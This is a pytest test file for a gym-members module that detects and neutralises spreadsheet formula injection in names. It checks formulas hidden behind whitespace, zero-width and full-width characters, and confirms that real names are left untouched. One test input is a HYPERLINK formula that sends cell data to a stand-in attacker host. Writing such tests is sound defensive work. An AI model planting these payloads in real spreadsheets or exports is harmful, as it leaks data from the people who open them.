import pytest
from hypothesis import given
from hypothesis import strategies as st

from gym_members.domain.names import begins_formula, harmless


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://evil.example/?"&A1,"Ver pago") X',
        "+1+1",
        "-2+3",
        "@SUM(A1)",
        "\t=1+1",
        "\r\n=1",
        " \u200b\ufeff=1",
        "\uff1d1+1",
        "\x00=1",
    ],
)
def test_formulas_are_seen_behind_what_is_not_seen(text):
    assert begins_formula(text)


@pytest.mark.parametrize("text", ["", None, "Ana", "J. M. O'Farrill", "Ramírez-Smith", "王芳", "  Ana", "X Æ A-12"])
def test_names_are_no_formulas(text):
    assert not begins_formula(text)
    assert harmless(text) == (text or "")


@given(st.text(alphabet=st.sampled_from('=+-@\t\n \u200b\uff1dAé王1("')))
def test_what_is_made_harmless_is_and_stays_so(text):
    clean = harmless(text)
    assert not begins_formula(clean)
    assert harmless(clean) == clean
    assert text.endswith(clean)
